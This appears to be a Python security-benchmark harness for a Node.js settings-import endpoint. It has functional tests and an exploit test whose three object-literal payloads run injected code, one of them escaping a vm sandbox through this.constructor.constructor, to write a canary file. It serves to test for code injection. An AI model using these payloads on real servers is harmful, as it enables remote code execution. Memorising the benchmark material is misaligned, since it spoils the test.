"""Harness for js-deser-import-config: POST /admin/import (text/plain object literal with unquoted keys and single
quotes) turns the body into an object, stores it with saveSettings (./settings, a stand-in that records it) and
answers {ok: true}; unreadable input gets 400.

Express is not installed in the sandbox: ``require("express")`` finds ``express_standin.cjs`` (in the harness library, ``_lib``;
``express.text()`` included). The exploit sends an "export" whose values are expressions that write a canary file:
it works when reading the settings runs them (``eval``, ``Function``, ``vm`` without a sealed context; the ``vm``
variant climbs out through ``this.constructor.constructor``) (CWE-94 / CWE-502).
"""

import json
import os

import hnode
from hpoly import Exploited, Harness, expect

SETTINGS_STUB = r'''
// Stand-in for ./settings written by the harness: records what is saved.
const fs = require("fs");
function saveSettings(obj) { fs.writeFileSync(process.env.RL_SETTINGS, JSON.stringify(obj)); return Promise.resolve(); }
module.exports = { saveSettings };
'''



def setup(ctx):
    hnode.install(ctx, "express")
    ctx.write("mod/settings.js", SETTINGS_STUB)


HARNESS = Harness("js-deser-import-config", "javascript", exports=("app",), setup=setup)


def serve(ctx):
    env = {"RL_SETTINGS": ctx.path("saved.json")}
    return hnode.serve_app(ctx, env=env)


def post(port, text):
    reply = hnode.request(port, "POST", "/admin/import", body=text.encode(), headers={"Content-Type": "text/plain"})
    return reply.status, reply.json()


def saved(ctx):
    path = ctx.path("saved.json")
    if not os.path.exists(path):
        return None
    with open(path) as fh:
        data = json.load(fh)
    os.remove(path)
    return data


@HARNESS.functional
def imports_object_literal(ctx):
    with serve(ctx) as port:
        status, body = post(port, "{theme: 'dark', pageSize: 20, features: ['a', 'b']}")
        expect(status == 200 and body == {"ok": True}, f"import answered {status} {str(body)[:100]}")
        got = saved(ctx)
        expect(got == {"theme": "dark", "pageSize": 20, "features": ["a", "b"]}, f"saveSettings got {got!r}")
        status, body = post(port, '{"theme": "light", "beta": false}')
        expect(status == 200 and saved(ctx) == {"theme": "light", "beta": False}, f"JSON input: {status}")


@HARNESS.functional
def unreadable_is_400(ctx):
    with serve(ctx) as port:
        for text in ("{theme: ", "theme = dark"):
            status, body = post(port, text)
            expect(status == 400, f"{text!r} answered {status}")
        expect(saved(ctx) is None, "something was saved from unreadable input")


@HARNESS.exploit("code-execution", cwe="CWE-94")
def run_code(ctx):
    canary = json.dumps(ctx.canary()).replace('"', "'")
    write = f"writeFileSync({canary}, 'pwned')"
    bodies = (f"{{theme: (process.mainModule.require('fs').{write}, 'dark'), pageSize: 20}}",
              f"{{theme: (this.constructor.constructor('return process')().mainModule.require('fs').{write}, 'dark')}}",
              f"{{theme: (global.process.mainModule.require('fs').{write}, 'x')}}")
    with serve(ctx) as port:
        for text in bodies:
            post(port, text)
            if os.path.exists(ctx.canary()):
                return Exploited(text, "importing the settings ran code from the request body: the canary file exists")
    return None


if __name__ == "__main__":
    HARNESS.main()
